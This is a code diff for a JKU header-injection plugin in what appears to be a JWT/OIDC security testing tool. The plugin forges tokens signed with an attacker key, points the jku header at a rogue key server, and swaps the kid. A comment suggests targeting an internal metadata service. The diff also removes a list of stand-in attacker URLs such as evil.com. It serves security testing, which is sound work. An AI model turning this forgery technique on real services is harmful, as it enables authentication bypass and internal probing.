@@ -1,3 +1,23 @@
+/**
+ * JKU Header Injection
+ *
+ * Signs the token with an attacker key Loki never publishes in its JWKS and
+ * sets the `jku` header to a URL serving that key. By default the URL is
+ * Loki's own rogue key server, /admin/rogue-jwks/:sessionId, which answers
+ * with the attacker key under the `kid` the header carries. A client that
+ * follows `jku` validates the forgery; a client that only trusts the
+ * discovery-advertised JWKS finds no key with that kid and rejects it.
+ *
+ * Config:
+ * - url: the `jku` to inject (sessions may set it with `jkuTarget`), e.g.
+ *   an internal metadata service, to test for server-side fetches
+ *
+ * Spec: RFC 7515 Section 4.1.2 - jku is only as trustworthy as the URL's origin
+ * CWE-346: Origin Validation Error
+ */
+
+import { attackerKey } from "../../core/attacker-keys.js";
+import { SUPPORTED_SIGNING_ALGORITHMS, type SigningAlgorithm } from "../../core/key-manager.js";
 import type { MischiefPlugin } from "../types.js";
 
 export const jkuInjection: MischiefPlugin = {
@@ -12,28 +32,46 @@ export const jkuInjection: MischiefPlugin = {
 	},
 	description: "Adds jku header pointing to attacker-controlled key server",
 
+	options: [
+		{
+			name: "url",
+			type: "string",
+			description: "The jku injected (default: Loki's rogue JWKS; session shorthand: jkuTarget)",
+		},
+	],
+
 	async apply(ctx) {
 		if (!ctx.token) {
 			return { applied: false, mutation: "No token context", evidence: {} };
 		}
 
-		const maliciousUrls = [
-			"https://evil.com/jwks.json",
-			"https://attacker.example.com/.well-known/jwks.json",
-			"http://localhost:8080/jwks",
-			"https://legitimate-idp.com.attacker.com/jwks",
-		];
+		const alg = ctx.token.header.alg;
+		if (!SUPPORTED_SIGNING_ALGORITHMS.includes(alg as SigningAlgorithm)) {
+			return { applied: false, mutation: `Not an asymmetric signature: ${alg}`, evidence: {} };
+		}
+
+		const rogueJwks = ctx.token.rogueJwks;
+		const url = (ctx.config.url as string | undefined) ?? rogueJwks?.url;
+		if (url === undefined) {
+			return { applied: false, mutation: "No url configured and no rogue JWKS host", evidence: {} };
+		}
 
-		const selectedUrl =
-			maliciousUrls[Math.floor(Math.random() * maliciousUrls.length)] ?? maliciousUrls[0];
+		const attacker = await attackerKey(alg as SigningAlgorithm);
+		rogueJwks?.publish(attacker.publicJwk);
 
-		ctx.token.header.jku = selectedUrl;
+		const originalKid = ctx.token.header.kid;
+		ctx.token.header.jku = url;
+		ctx.token.header.kid = attacker.kid;
+		await ctx.token.sign(alg, attacker.pem);
 
 		return {
 			applied: true,
-			mutation: `Injected jku header: ${selectedUrl}`,
+			mutation: `Injected jku header: ${url}`,
 			evidence: {
-				injectedJku: selectedUrl,
+				injectedJku: url,
+				attackerKid: attacker.kid,
+				originalKid,
+				servedAt: rogueJwks?.url ?? null,
 				vulnerability: "Client may fetch signing keys from attacker-controlled URL",
 			},
 		};